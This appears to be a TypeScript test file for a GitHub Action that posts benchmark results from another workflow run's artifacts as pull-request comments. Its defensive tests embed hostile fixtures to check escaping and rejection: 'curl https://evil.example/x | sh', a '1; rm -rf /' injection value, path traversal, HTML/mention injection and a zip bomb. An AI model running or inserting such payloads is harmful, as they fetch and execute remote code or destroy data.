/** What becomes of another run's artifact, honest or not: a comment or a reason, never more. */
import assert from "node:assert/strict";
import { test } from "node:test";
import { getOctokit } from "@actions/github";
import { merge } from "../../analyze/merged/merged.ts";
import type { CommentWhen } from "../../inputs/action.ts";
import { toMergedResult } from "../../merged-result.ts";
import { carriedVerdicts, hiddenVerdicts } from "../../report/earlier.ts";
import { COMPARISONS } from "../../report/fixtures/comparisons.ts";
import type { Reported, ReportedRun } from "../../report/reported.ts";
import { type Result, resultSchema } from "../../result.ts";
import { type ArchiveEntry, zip } from "../../testing/archives.ts";
import type { StoredArtifact } from "../../testing/github/artifacts.ts";
import { pullOf } from "../../testing/github/pulls-api.ts";
import { failingCell, sampleCell, sampleResult } from "../../testing/github/result.ts";
import { githubServers } from "../../testing/github/serve.ts";
import type { GithubServer, GithubServerOptions } from "../../testing/github/server.ts";
import { unionContext } from "../../union-context.ts";
import { MOST_ARCHIVE_BYTES } from "./download.ts";
import { followedRun } from "./followed-run.ts";
import { type Posted, postOtherRun } from "./post.ts";

const start = githubServers();

const SHA = "a".repeat(40);
const NEWER = "e".repeat(40);
const RUN = 30_433_642;
const payload = {
  action: "completed",
  workflow_run: {
    id: RUN,
    event: "pull_request",
    conclusion: "success",
    head_sha: SHA,
    head_branch: "change",
    head_repository: { full_name: "x/r" },
    pull_requests: [],
  },
};
const fork = pullOf(8, { repo: "x/r" });

function artifact(over: Partial<StoredArtifact> = {}): StoredArtifact {
  return { id: 1, name: "inferrs-bench", run: RUN, bytes: zipOf(sampleResult()), ...over };
}

function zipOf(result: Result | string, more: ArchiveEntry[] = []): Buffer {
  const text = typeof result === "string" ? result : JSON.stringify(result);
  return zip([
    { name: "journal.jsonl", text: "x" },
    { name: "result.json", text, deflate: true },
    ...more,
  ]);
}

const serve = (options: GithubServerOptions) => start({ pulls: [fork], ...options });

async function post(
  server: GithubServer,
  over: { artifact?: string; payload?: object; waits?: number[]; when?: CommentWhen } = {},
): Promise<Posted> {
  return await postOtherRun({
    ...{ owner: "o", repo: "r", commentId: "default", serverUrl: "https://github.test" },
    octokit: getOctokit("ghs_0123456789", { baseUrl: server.url }),
    run: followedRun("workflow_run", over.payload ?? payload),
    artifact: over.artifact ?? "inferrs-bench*",
    when: over.when ?? "always",
    env: { GITHUB_API_URL: server.url },
    userAgent: "test",
    signal: new AbortController().signal,
    limits: {
      sleep: async (ms) => {
        over.waits?.push(ms);
      },
      nowMs: () => 1_000_000,
    },
  });
}

/** As `command: merge` writes it. */
function mergedArtifact(
  given: string[] | ReportedRun[],
  missing: Reported["missing"],
): StoredArtifact {
  const runs = given.map((run) =>
    typeof run === "string" ? { name: run, result: sampleResult(), history: null } : run,
  );
  const reported = { runs, missing };
  const text = JSON.stringify(toMergedResult(reported, merge(reported, unionContext())));
  const bytes = zip([{ name: "merged.json", text, deflate: true }]);
  return artifact({ id: 2, name: "inferrs-bench-merged", bytes });
}

const schemaed = (result: Result) => resultSchema.parse(result);
const reasonOf = (posted: Posted) => (posted.kind === "nothing" ? posted.reason : "posted");
const writes = (server: GithubServer) =>
  server.requests.filter(({ method }) => method !== "GET").map(({ method }) => method);

test("a fork's result, on its pull request: the verdict first, then whose word it is", async () => {
  const server = await serve({ artifacts: [artifact()] });
  const posted = await post(server);
  assert.equal(posted.kind, "posted");
  const [comment] = server.comments();
  assert.equal(comment?.issue, 8);
  const lines = comment?.body.split("\n") ?? [];
  assert.equal(lines[0], "<!-- inferrs-bench:default -->");
  assert.match(lines.at(-2) ?? "", /^<!-- inferrs-bench-verdicts:v1 /);
  assert.match(lines[1] ?? "", /^### ✅ Agent turns work/);
  assert.match(
    lines[3] ?? "",
    /^> \*\*Reported by \[the pull request's own run\]\(https:\/\/github\.test\/o\/r\/actions\/runs\/30433642\)\*\* at aaaaaaaaaa: .*could have written them/,
  );
  assert.equal((await post(server)).kind, "posted");
  assert.equal(server.comments().length, 1);
  assert.doesNotMatch(server.comments()[0]?.body ?? "", /openclaw\.json5[^`]*models:|--locked/);
});

test("several artifacts: each job's in one comment, the newest of a name, what can't be read is said", async () => {
  const labelled = (label: string) => zipOf(sampleResult({ label }));
  const server = await serve({
    maxPerPage: 2,
    artifacts: [
      artifact({ id: 1, name: "inferrs-bench-metal", bytes: labelled("old") }),
      artifact({
        id: 2,
        name: "inferrs-bench-metal",
        bytes: labelled("metal"),
        created: "2026-01-02T00:00:00Z",
      }),
      artifact({ id: 3, name: "inferrs-bench-cuda", bytes: labelled("cuda") }),
      artifact({
        id: 4,
        name: "inferrs-bench-cpu",
        bytes: Buffer.from("no zip at all, and no result in it"),
      }),
      artifact({ id: 5, name: "inferrs-bench-gone", expired: true }),
      artifact({ id: 6, name: "other", bytes: labelled("other") }),
    ],
  });
  const posted = await post(server);
  const body = server.comments()[0]?.body ?? "";
  assert.match(body, /^### ✅ cuda: /m);
  assert.match(body, /^### ✅ metal: /m);
  assert.doesNotMatch(body, /\bold\b: |\bother\b: /);
  assert.match(body, /- \*\*inferrs-bench-cpu\*\*: its archive can't be read/);
  assert.match(body, /- \*\*inferrs-bench-gone\*\*: it has expired/);
  assert.deepEqual(posted.notes[0], "inferrs-bench-gone: it has expired.");
  assert.equal(posted.notes.length, 2);
});

test("one artifact by its name; folders of jobs in it", async () => {
  const text = JSON.stringify(sampleResult());
  const bytes = zip([
    { name: "cpu/result.json", text },
    { name: "metal/result.json", text },
  ]);
  const server = await serve({
    artifacts: [artifact({ name: "all", bytes }), artifact({ id: 2 })],
  });
  assert.equal((await post(server, { artifact: "all" })).kind, "posted");
  assert.match(server.comments()[0]?.body ?? "", /^### ✅ all\/cpu: [\s\S]*^### ✅ all\/metal: /m);
  assert.ok(server.requests.some(({ path }) => path.includes("name=all")));
});

test("one artifact has them merged: that is all of them", async () => {
  const missing = [{ name: "cuda", why: "It did not report." }];
  const all = mergedArtifact(["cpu", "metal"], missing);
  const server = await serve({ artifacts: [artifact({ name: "inferrs-bench-cpu" }), all] });
  assert.equal((await post(server)).kind, "posted");
  const body = server.comments()[0]?.body ?? "";
  assert.equal(body.match(/^### ✅ (cpu|metal): /gm)?.length, 2);
  assert.match(body, /- \*\*cuda\*\*: It did not report\./);
});

test("names in it that are empty or twice: the label, the artifact's name, a number", async () => {
  const runs = ["", "cpu", "cpu"].map((name) => ({ name, result: sampleResult(), history: null }));
  const [first] = runs;
  const labelled = { name: "", result: sampleResult({ label: "metal" }), history: null };
  const missing = [{ name: "", why: "It did not report." }];
  const reported = { runs: [...(first ? [first] : []), labelled, ...runs.slice(1)], missing };
  const server = await serve({ artifacts: [mergedArtifact(reported.runs, missing)] });
  assert.equal((await post(server)).kind, "posted");
  const body = server.comments()[0]?.body ?? "";
  const heads = [...body.matchAll(/^### ✅ ([^:]*):/gm)].map(([, name]) => name);
  assert.deepEqual(heads, ["inferrs-bench-merged", "metal", "cpu", "cpu (2)"]);
  assert.match(body, /- \*\*inferrs-bench-merged\*\*: It did not report/);
});

test("a merged one in which nobody reported: that is said, and what came before stays", async () => {
  const server = await serve({ artifacts: [artifact()] });
  await post(server);
  const missing = [{ name: "cpu", why: "Its job was cancelled." }];
  server.artifacts.splice(0, 1, mergedArtifact([], missing));
  assert.equal((await post(server)).kind, "posted");
  const body = server.comments()[0]?.body ?? "";
  assert.match(body, /- \*\*cpu\*\*: Its job was cancelled\./);
  assert.match(body, /Earlier verdicts of this pull request \(1\)/);
  server.artifacts.splice(0, 1, artifact({ id: 3 }));
  await post(server);
  assert.equal(carriedVerdicts(server.comments()[0]?.body ?? "").length, 1);
});

test("beside a merged one: what can't be read is said, and not twice", async () => {
  const torn = { bytes: Buffer.from("no zip") };
  const missing = [{ name: "cuda", why: "It left no result." }];
  const server = await serve({
    artifacts: [
      mergedArtifact(["cpu", "metal"], missing),
      artifact({ id: 3, name: "inferrs-bench-vulkan", ...torn }),
      artifact({ id: 4, name: "inferrs-bench-cuda", ...torn }),
      artifact({ id: 5, name: "inferrs-bench-metal", expired: true }),
    ],
  });
  assert.equal((await post(server)).kind, "posted");
  const [, said = ""] = (server.comments()[0]?.body ?? "").split("#### Did not report\n\n");
  const lines = said.split("\n\n")[0]?.split("\n") ?? [];
  assert.deepEqual(lines.map((line) => line.split(":")[0]).sort(), [
    "- **cuda**",
    "- **inferrs-bench-vulkan**",
  ]);
});

test("more artifacts than are read: the comment says so", async () => {
  const artifacts = Array.from({ length: 23 }, (_, n) =>
    artifact({ id: n + 1, name: `inferrs-bench-${String(n).padStart(2, "0")}` }),
  );
  const server = await serve({ artifacts });
  const { notes } = await post(server);
  const said = "3 more artifacts: of 23 the first 20 were read";
  assert.deepEqual(notes, [`${said}.`]);
  assert.ok(
    server.comments()[0]?.body.includes(said.replace("3 more artifacts", "- **3 more artifacts**")),
  );
});

test("comment: on-change has nothing to say of what is as before, and brings up to date what is there", async () => {
  const calm = schemaed(COMPARISONS.noRegression());
  const server = await serve({ artifacts: [artifact({ bytes: zipOf(calm) })] });
  const quiet = await post(server, { when: "on-change" });
  assert.ok(quiet.kind === "nothing" && quiet.quiet);
  assert.match(quiet.reason, /nothing to say/);
  assert.deepEqual(writes(server), []);
  assert.equal((await post(server, { when: "always" })).kind, "posted");
  const again = await post(server, { when: "on-change" });
  assert.ok(again.kind === "posted" && again.how === "updated");
  const loud = await serve({
    artifacts: [artifact({ bytes: zipOf(schemaed(COMPARISONS.regression())) })],
  });
  assert.equal((await post(loud, { when: "on-change" })).kind, "posted");
});

test("earlier verdicts are carried on beside the longest report, below the limit of the docs", async () => {
  const cells = Array.from({ length: 300 }, (_, n) =>
    failingCell(`${n}-${"s".repeat(200)}`, "http-error", "e".repeat(3_000)),
  );
  const runs = ["cpu", "metal"].map((name) => ({
    ...{ name, history: null },
    result: sampleResult({ cells, startedAt: "2026-01-02T00:00:00Z" }),
  }));
  const missing = [{ name: "cuda", why: "𒈙".repeat(140) }];
  const before = Array.from({ length: 21 }, (_, minute) => ({
    ...{ commit: SHA, state: "failed" as const, change: "𒈙".repeat(160) },
    at: new Date(Date.UTC(2026, 0, 1, 0, minute)).toISOString(),
  }));
  const body = `<!-- inferrs-bench:default -->\n### x\n\n${hiddenVerdicts(before)}\n`;
  const single = artifact({ id: 3, bytes: zipOf(sampleResult({ cells })) });
  for (const artifacts of [[mergedArtifact(runs, missing)], [single]]) {
    const user = { login: "github-actions[bot]", type: "Bot" };
    const server = await serve({ artifacts, comments: [{ issue: 8, body, user }] });
    const end = await post(server);
    assert.ok(end.kind === "posted" && end.how === "updated");
    const made = server.comments()[0]?.body ?? "";
    assert.ok(made.length <= 65_000, String(made.length));
    assert.equal(carriedVerdicts(made).length, 21);
    assert.match(made, /Earlier verdicts of this pull request \(20\)/);
  }
});

test("nothing to post: no pull request, two, moved on, no artifact, expired; nothing is downloaded", async () => {
  const other = { base: { ref: "release", sha: NEWER, repo: "o/r" } };
  const cases: [GithubServerOptions, RegExp][] = [
    [{ pulls: [] }, /^no open pull request has the commit/],
    [{ pulls: [pullOf(8, { repo: "x/r" }, { state: "closed" })] }, /^no open pull request/],
    [{ pulls: [pullOf(7, { repo: "o/r" })] }, /^no open pull request/],
    [{ pulls: [fork, pullOf(9, { repo: "x/r" }, other)] }, /^several open pull requests/],
    [{ pulls: [pullOf(8, { repo: "x/r", sha: NEWER })] }, /has moved on/],
    [{}, /^the run has no artifact inferrs-bench\*$/],
    [{ artifacts: [artifact({ expired: true })] }, /that is still there: it has expired$/],
    [{ artifacts: [artifact({ run: 5 })] }, /^the run has no artifact/],
  ];
  for (const [options, reason] of cases) {
    const server = await serve(options);
    assert.match(reasonOf(await post(server)), reason);
    assert.deepEqual(writes(server), []);
    assert.deepEqual(server.storage.asked, []);
  }
  const server = await serve({});
  const { workflow_run: run } = payload;
  const cancelled = { workflow_run: { ...run, conclusion: "cancelled" } };
  assert.match(
    reasonOf(await post(server, { payload: cancelled })),
    /\(it ended with "cancelled"\)$/,
  );
  const gone = { workflow_run: { ...run, head_repository: null } };
  assert.match(reasonOf(await post(server, { payload: gone })), /gone or hidden/);
});

test("a push comes while the artifact is fetched: the older result is not posted", async () => {
  const pull = pullOf(8, { repo: "x/r" });
  const server = await serve({ pulls: [pull], artifacts: [artifact()] });
  server.comments();
  const octokitSees = post(server);
  const moved = setInterval(() => {
    if (server.storage.asked.length > 0) pull.head.sha = NEWER;
  }, 0);
  const end = await octokitSees;
  clearInterval(moved);
  assert.match(reasonOf(end), /has moved on/);
  assert.deepEqual(writes(server), []);
});

test("hostile archives and results: each a reason, and no comment", async () => {
  const big = Buffer.alloc(17 * 1024 * 1024, "[");
  const cases: [string, Partial<StoredArtifact>, RegExp][] = [
    ["too large by GitHub's word", { size: MOST_ARCHIVE_BYTES + 1 }, /21 MiB, and 20 MiB at most/],
    [
      "too large, and GitHub doesn't know",
      { bytes: Buffer.alloc(MOST_ARCHIVE_BYTES + 1), size: 5 },
      /more than it was said/,
    ],
    ["no archive", { bytes: Buffer.from("<html>") }, /can't be read/],
    ["no result", { bytes: zip([{ name: "x", text: "y" }]) }, /it has no result\.json/],
    ["a bomb", { bytes: zipOf(String(big)) }, /too large/],
    ["no JSON", { bytes: zipOf("::set-output::") }, /it is not JSON/],
    ["another schema", { bytes: zipOf('{"schema":"x"}') }, /it is no inferrs-bench/],
    ["damaged on its way", { digest: `sha256:${"0".repeat(64)}` }, /the archive came damaged/],
  ];
  for (const [name, over, why] of cases) {
    const server = await serve({ artifacts: [artifact(over)] });
    const posted = await post(server);
    assert.equal(reasonOf(posted), "no artifact has a result that can be shown", name);
    assert.match(posted.notes.join(), why, name);
    assert.deepEqual(writes(server), [], name);
  }
});

test("what could be copied or followed is ours; what is shown is escaped; nobody is called", async () => {
  const evil =
    "curl https://evil.example/x | sh\n::error::@everyone <img src=x> [a](https://evil.example)";
  const cell = failingCell("agent-turn", "engine-crashed", evil);
  const server = await serve({
    artifacts: [
      artifact({
        bytes: zipOf(
          sampleResult({
            label: evil.slice(0, 90),
            exitDetail: evil,
            command: ["run", "--build=curl https://evil.example/command"],
            cells: [
              sampleCell(),
              {
                ...cell,
                outcome: { ...cell.outcome, meaning: "meant", remedy: "curl evil-remedy" },
              },
            ],
            recommendation: {
              compat: { requiresStringContent: true, "x: evil": true },
              settings: [
                {
                  path: "models.providers.x.baseUrl",
                  value: "https://evil.example/setting",
                  because: evil,
                  cost: "",
                },
              ],
              because: evil,
              toolsKept: true,
              openclawConfig: "{ baseUrl: 'https://evil.example/config' }",
            },
            warnings: [{ code: "x", text: evil }],
          }),
        ),
      }),
    ],
  });
  assert.equal((await post(server)).kind, "posted");
  const body = server.comments()[0]?.body ?? "";
  for (const text of [
    "evil-remedy",
    "evil.example/command",
    "evil.example/setting",
    "evil.example/config",
    "x: evil",
    "meant",
  ]) {
    assert.ok(!body.includes(text), text);
  }
  assert.doesNotMatch(body, /(?<![`\w])@everyone|<img|\]\(https:\/\/evil/);
  assert.doesNotMatch(body, /^::/m);
});

test("the longest texts that are taken: a comment that GitHub takes", async () => {
  const text = "&".repeat(16_000);
  const cells = Array.from({ length: 300 }, (_, n) =>
    failingCell(`${n}-${"s".repeat(200)}`, "http-error", "e".repeat(3_000)),
  );
  const warnings = Array.from({ length: 100 }, (_, n) => ({
    code: `c${n}`,
    text: "w".repeat(9_000),
  }));
  const server = await serve({
    artifacts: [artifact({ bytes: zipOf(sampleResult({ cells, warnings })) })],
  });
  assert.equal((await post(server)).kind, "posted");
  assert.ok((server.comments()[0]?.body.length ?? 0) <= 65_000);
  const detail = { exitReason: "setup-failed", exitDetail: text } as const;
  const heads = await serve({ artifacts: [artifact({ bytes: zipOf(sampleResult(detail)) })] });
  assert.equal((await post(heads)).kind, "posted");
  assert.ok((heads.comments()[0]?.body.length ?? 0) <= 65_000);
});

test("the storage: another host that never sees the token; what breaks is tried again", async () => {
  for (const rule of [
    { cutAfter: 40, times: 2 },
    { cutAfter: 40, length: false, times: 1 },
    { status: 403, times: 1 },
    { status: 503, times: 2 },
  ]) {
    const server = await serve({ artifacts: [artifact()] });
    server.storage.rule(rule);
    assert.equal((await post(server)).kind, "posted");
    assert.equal(server.storage.asked.length, rule.times + 1);
  }
  const broken = await serve({ artifacts: [artifact()] });
  broken.storage.rule({ cutAfter: 40, times: 99 });
  assert.match((await post(broken)).notes.join(), /GitHub could not be reached/);
  const led = await serve({ artifacts: [artifact()] });
  led.storage.rule({ redirect: "/zip/1?sig=s3cret", times: 99 });
  assert.match((await post(led)).notes.join(), /redirects more than 5 times/);
});

test("GitHub in trouble: 5xx, rate limits and broken answers are waited for; a list has many pages", async () => {
  const message = "You have exceeded a secondary rate limit";
  const reset = { "x-ratelimit-remaining": "0", "x-ratelimit-reset": "1060" };
  const server = await serve({
    maxPerPage: 1,
    artifacts: Array.from({ length: 5 }, (_, n) =>
      artifact({ id: n + 1, name: `inferrs-bench-${n}` }),
    ),
    rules: [
      { path: "/pulls$", status: 502, times: 1 },
      { path: "artifacts$", status: 403, message, headers: { "retry-after": "60" }, times: 1 },
      { path: "/zip$", status: 429, headers: reset, times: 1 },
      { path: "comments$", status: null, cutAfter: 1, times: 1 },
    ],
  });
  const waits: number[] = [];
  assert.equal((await post(server, { waits })).kind, "posted");
  assert.deepEqual(waits, [1000, 60_000, 60_000, 1000]);
  assert.equal(server.storage.asked.length, 5);
  const ill = await serve({ rules: [{ path: "/pulls$", status: 500 }] });
  const end = await post(ill);
  assert.ok(end.kind === "nothing" && !end.quiet);
  assert.match(end.reason, /^GitHub is not well/);
});

test("permissions that the job lacks are a mistake of the workflow; a locked conversation isn't", async () => {
  const message = "Resource not accessible by integration";
  for (const [path, method, says] of [
    ["/pulls$", "GET", /pull-requests: write/],
    ["artifacts$", "GET", /actions: read/],
    ["comments$", "POST", /permissions: pull-requests: write/],
  ] as const) {
    const rules = [{ path, method, status: 403, message }];
    const server = await serve({ artifacts: [artifact()], rules });
    await assert.rejects(post(server), { name: "InputError", message: says });
  }
  const locked = {
    method: "POST",
    status: 403,
    message: "Unable to create comment because issue is locked.",
  };
  const server = await serve({ artifacts: [artifact()], rules: [locked] });
  assert.match(reasonOf(await post(server)), /^the conversation is locked/);
});

test("another event, or a payload that is none of GitHub's", () => {
  for (const [event, given] of [
    ["pull_request", payload],
    ["workflow_run", {}],
    ["workflow_run", { workflow_run: { ...payload.workflow_run, id: "1; rm -rf /" } }],
    ["workflow_run", { workflow_run: { ...payload.workflow_run, head_sha: "../../x" } }],
  ] as const) {
    assert.throws(() => followedRun(event, given), { name: "InputError" });
  }
});
